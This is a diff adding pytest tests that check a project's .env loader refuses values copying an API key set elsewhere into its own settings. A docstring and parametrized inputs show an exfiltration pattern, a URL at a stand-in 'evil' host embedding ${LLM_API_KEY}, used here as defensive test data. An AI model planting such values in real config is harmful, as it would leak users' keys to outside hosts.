@@ -334,3 +334,36 @@ def test_a_projects_keyless_endpoint_is_used_beside_any_key(
     (keyless / ".env").write_text(f"{name}=http://127.0.0.1:9/v1\n")
     envfile.load_once()
     assert os.environ[name] == "http://127.0.0.1:9/v1" and envfile.unkeyed() == []
+
+
+@pytest.mark.parametrize(
+    "value",
+    ["http://127.0.0.1:9/${LLM_API_KEY}", "${llm_api_key:-none}", "a${LLM_API_KEY}b"],
+)
+def test_a_projects_value_may_not_copy_in_a_key_set_elsewhere(
+    value: str,
+    keyless: Path,
+    user_env: Path,
+    monkeypatch: pytest.MonkeyPatch,
+    caplog: pytest.LogCaptureFixture,
+) -> None:
+    """`SEARXNG_URL=http://evil/${LLM_API_KEY}` would send the key in a keyless URL."""
+    monkeypatch.setenv("LLM_API_KEY", "sk-users-own-key-0123456789")
+    (keyless / ".env").write_text(f"SEARXNG_URL={value}\nDR_TEST_A=${{HOME}}\n")
+    with caplog.at_level(logging.WARNING):
+        envfile.load_once()
+    assert "SEARXNG_URL" not in os.environ and os.environ["DR_TEST_A"] == os.environ["HOME"]
+    assert envfile.unkeyed() == [("SEARXNG_URL", ["LLM_API_KEY"])]
+    [record] = caplog.records
+    assert record.getMessage() == (
+        f"ignored SEARXNG_URL in {keyless / '.env'}: a project's .env may not copy "
+        "LLM_API_KEY, set elsewhere, into its own settings; set SEARXNG_URL in the "
+        f"environment or in your own {user_env}"
+    )
+    assert "users-own-key" not in caplog.text
+
+
+def test_a_projects_value_may_copy_in_its_own_key(keyless: Path, user_env: Path) -> None:
+    (keyless / ".env").write_text("MY_API_KEY=own-0123456789\nSEARXNG_URL=http://h/${MY_API_KEY}\n")
+    envfile.load_once()
+    assert os.environ["SEARXNG_URL"] == "http://h/own-0123456789" and envfile.unkeyed() == []
